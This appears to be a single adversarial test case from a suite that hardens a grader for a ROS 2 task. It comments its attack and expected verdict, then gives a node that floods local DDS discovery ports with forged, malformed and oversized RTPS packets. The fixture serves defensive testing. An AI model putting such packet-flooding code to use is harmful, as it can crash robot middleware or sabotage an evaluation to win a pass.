# attack: sends forged and broken RTPS packets to everybody
# row: 24
# aims at: 90.3
# stopped by: a crash of the tests is no pass; nobody else hears the network of this run
# expect verdict: failed or grader_error
# expect message: messages came or fault
class Talker(Node):
    def __init__(self):
        super().__init__('talker')
        self.create_timer(0.5, self.tick)

    def tick(self):
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for port in (*range(7400, 7420), *range(7400 + 250 * int(os.environ.get('ROS_DOMAIN_ID', 0)), 7400 + 250 * int(
                os.environ.get('ROS_DOMAIN_ID', 0)) + 20)):
            for packet in (b'RTPS', b'RTPS\x02\x03\x01\x0f' + b'\x00' * 12 + b'\x15\x05\xff\xff' + b'\xff' * 200,
                           b'RTPS\x02\x03\x01\x0f' + b'\xff' * 600, b'\x00' * 65000):
                try:
                    sender.sendto(packet, ('127.0.0.1', port))
                except OSError:
                    pass
